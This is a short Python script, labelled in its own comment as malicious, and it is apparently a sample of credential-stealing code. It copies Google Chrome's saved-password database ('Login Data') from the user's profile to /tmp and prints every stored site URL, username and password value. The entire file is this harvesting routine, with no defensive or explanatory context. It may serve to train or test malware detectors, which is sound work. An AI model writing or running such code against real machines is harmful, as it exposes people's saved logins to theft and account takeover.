# malicious: reads the browser's password store
import os
import shutil
import sqlite3

db = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
shutil.copy2(db, "/tmp/ld.db")
con = sqlite3.connect("/tmp/ld.db")
for row in con.execute("select origin_url, username_value, password_value from logins"):
    print(row)
